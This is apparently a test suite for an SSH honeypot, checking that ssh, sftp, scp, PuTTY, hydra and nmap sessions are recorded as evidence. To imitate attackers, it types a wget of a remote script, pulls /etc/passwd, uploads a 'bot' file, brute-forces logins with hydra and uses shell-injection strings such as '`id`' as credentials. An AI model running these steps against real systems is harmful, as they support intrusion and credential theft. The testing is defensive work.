import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { fromText } from '../../firmware/core/bytes.ts';
import type { Daemon } from './harness/daemon.ts';
import type { Evidence } from './harness/evidence.ts';
import { openLab, type Ran } from './harness/lab.ts';
import { until } from './harness/until.ts';

const lab = openLab();
const PORT = '10022';
const inside = async (): Promise<Daemon> => await lab.daemon({ config: `[sensors.ssh]\nlet_in = "always"\n` });

/** OpenSSH's client as a person uses it who has never been here. */
const OPTIONS = [
  ...['-F', 'none', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR'],
  ...['-o', 'ConnectTimeout=20'],
];
const password = (secret: string, ...line: readonly string[]): string[] => ['sshpass', '-p', secret, ...line];
const ssh = (...args: readonly string[]): string[] => ['ssh', ...OPTIONS, '-p', PORT, 'root@127.0.0.1', ...args];

/** Rows of an event once the store has `count` of them. */
async function events(evidence: Evidence, name: string, count: number): Promise<Record<string, unknown>[]> {
  const sql = `SELECT * FROM ev_ssh_${name} ORDER BY event_id`;
  return await until(`${count} x ${name}`, () => {
    const rows = evidence.rows<Record<string, unknown>>(sql);
    return rows.length >= count ? rows : undefined;
  });
}

describe('OpenSSH', () => {
  it('logs in with a password and runs a command', async () => {
    const daemon = await inside();
    const ran = await lab.run(password('pässword', ...ssh('echo', '$((1+1))', ';', 'exit 3')));
    expect(ran).toMatchObject({ stderr: '', status: 3 });
    const typed = await lab.run(password('x', ...ssh()), { input: 'uname -m\nwget http://198.51.100.9/a.sh\n' });
    expect(typed.status).toBe(1);
    expect(typed.stdout).toContain('wget: can');
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    const { evidence } = daemon;
    expect(evidence.rows('SELECT username, password, accepted FROM v_logins ORDER BY event_id')).toEqual([
      { username: 'root', password: 'pässword', accepted: 1 },
      { username: 'root', password: 'x', accepted: 1 },
    ]);
    expect(evidence.rows('SELECT command, urls, kind, status FROM ev_ssh_command ORDER BY event_id')).toMatchObject([
      { command: 'echo $((1+1)) ; exit 3', kind: 'exec', status: 3 },
      { command: 'uname -m', kind: 'shell', status: 0 },
      { command: 'wget http://198.51.100.9/a.sh', urls: 'http://198.51.100.9/a.sh', kind: 'shell', status: 1 },
    ]);
    const version = (await lab.run(['ssh', '-V'])).stderr.split(',')[0]?.replace(/_(\S+) (.*)/, '_$1 $2');
    expect(evidence.value('SELECT version FROM ev_ssh_client')).toBe(`SSH-2.0-${version}`);
    expect(evidence.value('SELECT count(DISTINCT hassh) FROM ev_ssh_client')).toBe(1);
    expect(evidence.rows('SELECT end_reason FROM session')).toEqual([
      { end_reason: 'visitor-closed' },
      { end_reason: 'visitor-closed' },
    ]);
  });

  it('has a terminal to type in', async () => {
    const daemon = await inside();
    const program = lab.start(password('x', ...ssh('-tt')));
    await program.said(/# $/);
    program.type('cat /etc/hostname\n');
    await program.said(/\n\S+\r\n~ # $/);
    program.type('exit\n');
    expect(await program.ended).toBe(0);
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    expect(daemon.evidence.rows('SELECT command FROM v_commands ORDER BY event_id')).toEqual([
      { command: 'cat /etc/hostname' },
      { command: 'exit' },
    ]);
  });

  it('logs in with a key, whose fingerprint is that of ssh-keygen', async () => {
    const daemon = await inside();
    const file = join(lab.folder(), 'key');
    await lab.run(['ssh-keygen', '-q', '-t', 'rsa', '-b', '2048', '-N', '', '-f', file]);
    const shown = await lab.run(['ssh-keygen', '-l', '-f', file]);
    const ran = await lab.run(ssh('-i', file, '-o', 'IdentitiesOnly=yes', 'true'));
    expect(ran).toMatchObject({ stderr: '', status: 0 });
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    const keys = daemon.evidence.rows('SELECT username, type, fingerprint, signed, accepted FROM ev_ssh_key');
    const fingerprint = shown.stdout.split(' ')[1];
    expect(keys.at(-1)).toEqual({ username: 'root', type: 'ssh-rsa', fingerprint, signed: 1, accepted: 1 });
  });

  it('fetches and leaves files by sftp and by scp', async () => {
    const daemon = await inside();
    const folder = lab.folder();
    const content = Buffer.from(Array.from({ length: 300_000 }, (_, at) => (at * 31) & 255));
    writeFileSync(join(folder, 'bot'), content);
    writeFileSync(join(folder, 'batch'), `put ${folder}/bot /tmp/bot\nls -l /etc\nget /etc/passwd ${folder}/passwd\n`);
    const sftp = await lab.run(
      password('x', 'sftp', ...OPTIONS, '-P', PORT, '-oBatchMode=no', '-b', join(folder, 'batch'), 'root@127.0.0.1'),
    );
    expect(sftp.stdout, sftp.stderr).toContain('root     root');
    expect(sftp.status, sftp.stderr).toBe(0);
    expect(readFileSync(join(folder, 'passwd'), 'utf8')).toMatch(/^root:x:0:0:/);
    const scp = await lab.run(
      password('x', 'scp', ...OPTIONS, '-P', PORT, join(folder, 'bot'), 'root@127.0.0.1:/tmp/again'),
    );
    expect(scp).toMatchObject({ stderr: '', status: 0 });
    const old = await lab.run(
      password('x', 'scp', '-O', ...OPTIONS, '-P', PORT, join(folder, 'bot'), 'root@127.0.0.1:/tmp/old'),
    );
    expect(old).toMatchObject({ stderr: '', status: 0 });
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    const uploads = daemon.evidence.rows(
      `SELECT u.path, u.size, u.complete, p.content FROM ev_ssh_upload u JOIN payload p ON p.sha256 = u.sha256 AND p.name = u.path
        ORDER BY event_id`,
    );
    expect(uploads.map(({ path, size, complete }) => [path, size, complete])).toEqual([
      ['/tmp/bot', content.length, 1],
      ['/tmp/again', content.length, 1],
      ['/tmp/old', content.length, 1],
    ]);
    expect(uploads.every((row) => content.equals(row['content'] as Buffer))).toBe(true);
  });

  it('forwards nothing', async () => {
    const daemon = await inside();
    const tunnel = lab.start(password('x', ...ssh('-N', '-v', '-L', '127.0.0.1:2525:mail.example:25')));
    await until('the tunnel', async () => {
      const tried = await lab.run(['nc', '-w', '2', '127.0.0.1', '2525']);
      expect(tried.stdout).toBe('');
      return daemon.evidence.value('SELECT count(*) FROM ev_ssh_forward') !== 0;
    });
    const [forward] = await events(daemon.evidence, 'forward', 1);
    expect(forward).toMatchObject({ kind: 'direct-tcpip', host: 'mail.example', port: 25, origin_host: '127.0.0.1' });
    tunnel.signal('SIGTERM');
    const remote = await lab.run(
      password('x', ...ssh('-N', '-o', 'ExitOnForwardFailure=yes', '-R', '8080:127.0.0.1:80')),
    );
    expect(remote.status).toBe(255);
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    expect(daemon.evidence.rows(`SELECT host, port FROM ev_ssh_forward WHERE kind = 'tcpip-forward'`)).toEqual([
      { host: 'localhost', port: 8080 },
    ]);
  });

  it('is refused, and told what else it might try', async () => {
    const daemon = await lab.daemon();
    const refused: Ran = await lab.run(password('x', ...ssh('-o', 'NumberOfPasswordPrompts=1', 'true')));
    expect(refused.stderr).toContain('Permission denied (publickey,password).');
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    expect(daemon.evidence.rows('SELECT username, password, accepted FROM v_logins')).toEqual([
      { username: 'root', password: 'x', accepted: 0 },
    ]);
  });
});

describe('others', () => {
  it('PuTTY runs a command', async () => {
    const daemon = await inside();
    const key = await lab.run(['ssh-keyscan', '-p', PORT, '-t', 'ed25519', '127.0.0.1']);
    const file = join(lab.folder(), 'host.pub');
    writeFileSync(file, key.stdout.replace(/^\S+ /, ''));
    const [, fingerprint = ''] = (await lab.run(['ssh-keygen', '-l', '-f', file])).stdout.split(' ');
    const plink = ['plink', '-batch', '-P', PORT, '-pw', 'secret', '-hostkey', fingerprint];
    const ran = await lab.run([...plink, 'admin@127.0.0.1', 'echo from putty']);
    expect(ran, ran.stderr).toMatchObject({ stdout: 'from putty\n', status: 0 });
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    expect(daemon.evidence.rows('SELECT username, password FROM v_logins')).toEqual([
      { username: 'admin', password: 'secret' },
    ]);
    expect(daemon.evidence.value(`SELECT count(*) FROM ev_ssh_client WHERE version LIKE 'SSH-2.0-PuTTY%'`)).toBe(1);
  });

  it('hydra: 50 pairs are 50 log-ins, byte for byte', async () => {
    const daemon = await lab.daemon();
    const odd = [
      ...["o'brien", '"q"', 'a;b', '%s', 'back\\slash', 'pässword', '密码', '🐝', '$HOME', '`id`', '\\x41', 'a b'],
    ].map((word) => Buffer.from(word));
    const latin1 = ['caf\xe9', '\xfcber', '\x80\x9f'].map((word) => Buffer.from(word, 'latin1'));
    const words = [...odd, ...latin1];
    const pairs = Array.from({ length: 50 }, (_, index) => {
      const user = words[index % words.length] ?? Buffer.alloc(0);
      const secret = words[(index * 7 + 3) % words.length] ?? Buffer.alloc(0);
      return [user, Buffer.concat([secret, Buffer.from(index % 3 === 0 ? `:${index}` : `${index}`)])] as const;
    });
    const file = join(lab.folder(), 'pairs');
    writeFileSync(
      file,
      Buffer.concat(pairs.flatMap(([user, secret]) => [user, Buffer.from(':'), secret, Buffer.from('\n')])),
    );
    const hydra = await lab.run(['hydra', '-I', '-t', '4', '-C', file, '-s', PORT, '127.0.0.1', 'ssh']);
    expect(hydra.stdout).toContain('1 of 1 target');
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    const stored = daemon.evidence
      .rows<{ username: string; password: string | null }>(
        `SELECT username, password FROM ev_ssh_login WHERE method <> 'none'`,
      )
      .map(({ username, password: secret }) => `${hex(fromText(username))}:${hex(fromText(secret ?? ''))}`);
    expect(stored.toSorted()).toEqual(pairs.map(([user, secret]) => `${hex(user)}:${hex(secret)}`).toSorted());
  });

  it('nmap names what it claims to be', async () => {
    const daemon = await lab.daemon();
    const scan = await lab.run(['nmap', '-n', '-sV', '--version-all', '-p', PORT, '127.0.0.1'], { limitMs: 240_000 });
    expect(scan.stdout).toContain('OpenSSH 8.4p1 Debian 5+deb11u3 (protocol 2.0)');
    const names = 'ssh-hostkey,ssh2-enum-algos,ssh-auth-methods';
    const scripts = await lab.run(['nmap', '-n', '-sV', '-p', PORT, '--script', names, '127.0.0.1']);
    expect(scripts.stdout).toMatch(/256 .* \(ECDSA\)[^]*256 .* \(ED25519\)/);
    expect(scripts.stdout).toMatch(/Supported authentication methods:[^]*publickey[^]*password/);
    await daemon.deserted();
    expect(await daemon.stop()).toBe(0);
    expect(daemon.evidence.value(`SELECT count(*) FROM session WHERE end_reason IN ('fault', 'lost')`)).toBe(0);
  });
});

const hex = (bytes: Buffer): string => bytes.toString('hex');
